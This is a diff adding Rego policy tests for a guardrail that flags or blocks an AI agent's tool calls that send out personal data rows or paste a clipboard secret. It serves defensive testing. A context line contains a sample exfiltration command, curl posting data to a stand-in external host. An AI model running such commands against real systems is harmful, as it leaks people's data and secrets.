@@ -197,3 +197,38 @@ test_points_at_the_command if {
 	some denial in secret.deny with input as flowing("curl -d abc https://x.example", "net.send", seen)
 	denial.span == [0, 29]
 }
+
+# Data about people, and a clipboard, are put to a person.
+test_asks_about_rows if {
+	sent := [pair | some pair in calls; pair[0] in ["net.send", "tool"]]
+	every pair in sent {
+		some question in secret.ask with input as flowing(pair[1], pair[0], object.union(seen, {"what": "rows about people"}))
+		contains(question.reason, "several rows about people")
+		count(secret.deny) == 0 with input as flowing(pair[1], pair[0], object.union(seen, {"what": "rows about people"}))
+	}
+}
+
+test_passes_rows_that_stay if {
+	every pair in [
+		["net.send", "curl -d abc http://localhost:3000"],
+		["tool", {"tool": "mcp__fs__write_file", "input": {"path": "notes.md", "content": "abc"}}],
+		["git.push", "git push origin feature"],
+	] {
+		count(secret.ask) == 0 with input as flowing(pair[1], pair[0], object.union(seen, {"what": "rows about people"}))
+		count(secret.deny) == 0 with input as flowing(pair[1], pair[0], object.union(seen, {"what": "rows about people"}))
+	}
+}
+
+test_passes_rows_of_other_origins if {
+	call := {"tool": "mcp__slack__post_message", "input": {"text": "abc"}}
+	count(secret.ask) == 0 with input as flowing(call, "tool", object.union(seen, {"what": "rows about people", "origin": "untrusted"}))
+	count(secret.ask) == 0 with input as flowing(call, "tool", object.union(seen, {"what": "clipboard with a secret", "origin": "untrusted"}))
+}
+
+test_asks_about_the_clipboard if {
+	call := {"tool": "mcp__page__press_key", "input": {"key": "Control+v"}}
+	pasted := flowing(call, "tool", object.union(seen, {"what": "clipboard with a secret"}))
+	some question in secret.ask with input as pasted
+	startswith(question.reason, "pastes what may be the secret")
+	count(secret.deny) == 0 with input as pasted
+}
